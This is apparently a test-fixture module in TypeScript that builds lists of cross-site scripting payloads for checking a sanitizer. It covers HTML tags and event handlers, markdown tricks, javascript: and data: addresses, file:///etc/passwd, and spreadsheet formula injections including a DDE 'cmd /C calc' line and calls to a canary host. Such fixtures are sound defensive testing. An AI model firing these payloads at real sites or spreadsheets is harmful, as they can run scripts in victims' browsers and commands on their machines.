/** Markup that runs something where it is not written as text: every payload leaves a mark of its own. */

/** What a payload does when it runs: it marks the page, asks, and calls the canary. */
const act = (canary: string) => `window.__pwned=1;fetch('${canary}/xss')`;

const entities = (text: string) => [...text].map((c) => `&#${c.charCodeAt(0)};`).join("");

/** HTML as it could stand in any text. */
function htmlPayloads(canary: string): string[] {
  const js = act(canary);
  return [
    `<script>${js}</script>`,
    `<ScRiPt >${js}</sCrIpT>`,
    `<script src="${canary}/script.js"></script>`,
    `<script src=//${new URL(canary).host}/script.js></script>`,
    `"><script>${js}</script>`,
    `'><script>${js}</script>`,
    `</title><script>${js}</script>`,
    `</textarea><script>${js}</script>`,
    `</script><script>${js}</script>`,
    `--><script>${js}</script>`,
    `<img src=x onerror="${js}">`,
    `<img src="${canary}/pixel.png" onload="${js}">`,
    `"><img src=x onerror=${entities("window.__pwned=1")}>`,
    `<svg onload="${js}">`,
    `<svg/onload=window.__pwned=1>`,
    `<svg><script>${js}</script></svg>`,
    `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
    `<math><mtext><script>${js}</script></mtext></math>`,
    `<body onload="${js}">`,
    `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
    `<iframe src="javascript:parent.__pwned=1"></iframe>`,
    `<object data="${canary}/object"></object>`,
    `<embed src="${canary}/embed">`,
    `<link rel=stylesheet href="${canary}/style.css">`,
    `<style>@import url("${canary}/import.css");</style>`,
    `<style>*{background:url(${canary}/bg.png)}</style>`,
    `<div style="background:url(${canary}/inline.png)">x</div>`,
    `<base href="${canary}/">`,
    `<meta http-equiv=refresh content="0;url=${canary}/refresh">`,
    `<form action="${canary}/form"><button autofocus onfocus="${js}">x</button></form>`,
    `<input autofocus onfocus="${js}">`,
    `<details open ontoggle="${js}">`,
    `<video><source onerror="${js}"></video>`,
    `<marquee onstart="${js}">x</marquee>`,
    `<a href="javascript:${js}">click</a>`,
    `<a href="&#106;avascript:window.__pwned=1">click</a>`,
    `<template><script>${js}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">`,
    `<select><style></select><img src=x onerror=window.__pwned=1></style>`,
    `<!--<img src="--><img src=x onerror=window.__pwned=1//">`,
    `<![CDATA[><img src=x onerror=window.__pwned=1>]]>`,
    `<x contenteditable onblur="${js}">lose focus</x>`,
    `\u003cimg src=x onerror=window.__pwned=1\u003e`,
    `&lt;img src=x onerror=window.__pwned=1&gt;`,
    `%3Cimg%20src%3Dx%20onerror%3Dwindow.__pwned%3D1%3E`,
    `＜img src=x onerror=window.__pwned=1＞`,
    `{{constructor.constructor('window.__pwned=1')()}}`,
    "$" + "{window.__pwned=1}",
    `';window.__pwned=1;//`,
    `";window.__pwned=1;//`,
    `\\";window.__pwned=1;//`,
  ];
}

/** Markdown that would become such HTML where its makers were careless. */
function markdownPayloads(canary: string): string[] {
  const schemes = [
    "javascript:window.__pwned=1",
    "JaVaScRiPt:window.__pwned=1",
    "java\tscript:window.__pwned=1",
    "&#x6A;avascript:window.__pwned=1",
    "javascript&colon;window.__pwned=1",
    "\u0001javascript:window.__pwned=1",
    "data:text/html,<script>opener.__pwned=1</script>",
    "data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19wd25lZD0xPC9zY3JpcHQ+",
    "vbscript:window.__pwned=1",
    "blob:window.__pwned=1",
    "file:///etc/passwd",
  ];
  return [
    ...schemes.flatMap((address) => [
      `[click](${address})`,
      `[click](<${address}>)`,
      `[click][a]\n\n[a]: ${address}`,
    ]),
    ...schemes.slice(0, 3).map((address) => `<${address}>`),
    ...schemes.slice(0, 3).map((address) => `![picture](${address})`),
    `![x](${canary}/markdown.png)`,
    `![x](x"onerror="window.__pwned=1)`,
    `![x" onerror="window.__pwned=1](https://example.org/a.png)`,
    `[click](https://example.org/ "title" onmouseover="window.__pwned=1")`,
    `[click](https://example.org/"onmouseover="window.__pwned=1)`,
    `[a](<https://example.org/' onmouseover='window.__pwned=1>)`,
    `https://example.org/"onmouseover="window.__pwned=1`,
    `www.example.org/<img/src=x/onerror=window.__pwned=1>`,
    `contact@example.org"onmouseover="window.__pwned=1`,
    '```html"onmouseover="window.__pwned=1\n<img src=x onerror=window.__pwned=1>\n```',
    "    <img src=x onerror=window.__pwned=1>",
    "`<img src=x onerror=window.__pwned=1>`",
    "- [ ] <input onfocus=window.__pwned=1 autofocus>",
    "~~<img src=x onerror=window.__pwned=1>~~",
    "# <img src=x onerror=window.__pwned=1>",
    "> <svg onload=window.__pwned=1>",
    "[<img src=x onerror=window.__pwned=1>](https://example.org/)",
    "**<b onclick=window.__pwned=1>x**</b>",
    "<details open ontoggle=window.__pwned=1>\n\n*x*\n\n</details>",
    `<script>\n\n${act(canary)}\n\n</script>`,
    "\\<img src=x onerror=window.__pwned=1>",
    "[x]: javascript:window.__pwned=1\n\n[x]",
  ];
}

export const markup = (canary: string): readonly string[] => [
  ...htmlPayloads(canary),
  ...markdownPayloads(canary),
];

/** Addresses that must never become a link, a picture or a frame that runs something. */
export const addresses = (canary: string): readonly string[] => [
  "javascript:window.__pwned=1",
  "javascript://example.org/%0awindow.__pwned=1",
  " javascript:window.__pwned=1",
  "java\nscript:window.__pwned=1",
  "data:text/html,<script>window.__pwned=1</script>",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.__pwned=1'/>",
  "vbscript:window.__pwned=1",
  "blob:https://example.org/1",
  "file:///etc/passwd",
  "https://user:password@example.org/",
  "https://example.org@canary.example/",
  'https://example.org/"onerror="window.__pwned=1',
  "https://example.org/'onerror='window.__pwned=1",
  "//canary.example/x",
  "\\\\canary.example\\x",
  `${canary}/address`,
];

/** What a spreadsheet would calculate. */
export const formulas: readonly string[] = [
  '=HYPERLINK("https://canary.example","click")',
  "=cmd|' /C calc'!A0",
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  '=IMPORTXML("https://canary.example","//a")',
  '"=1+1',
  'a,"=1+1"\r\n=2+2,b',
  "＝1+1",
  "；=1+1",
  " =1+1",
  "'=1+1",
  "=\u200B1+1",
  "\u200B=1+1",
  "%=1+1",
  "|=1+1",
  "\n=1+1",
];
